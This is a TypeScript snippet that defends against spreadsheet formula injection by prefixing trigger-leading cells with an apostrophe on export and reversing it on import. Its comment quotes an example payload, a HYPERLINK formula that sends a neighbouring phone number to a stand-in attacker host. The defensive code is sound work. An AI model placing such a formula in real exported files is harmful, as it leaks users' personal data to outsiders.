/**
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a cell that begins with `=`, `+`,
 * `-`, `@`, a tab or a carriage return is run as a formula by Excel, LibreOffice and Google
 * Sheets when the exported file is opened — `=HYPERLINK("https://evil.example/?"&A2, "Click")`
 * sends the phone number next to it away. On export such a cell gets a leading `'`, which the
 * spreadsheets show as text and do not store; the full-width forms are included because some
 * spreadsheets take them as the ASCII ones.
 *
 * The import undoes it exactly, so an export imports back unchanged: a cell is prefixed when
 * it starts with a trigger or with `'` itself, and one leading `'` is removed when a trigger or
 * another `'` follows it. Any other cell is read as written.
 */
const TRIGGER = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20']/;

export function neutralizeFormula(cell: string): string {
  return TRIGGER.test(cell) ? `'${cell}` : cell;
}

export function restoreFormulaText(cell: string): string {
  return cell.startsWith("'") && TRIGGER.test(cell.slice(1)) ? cell.slice(1) : cell;
}
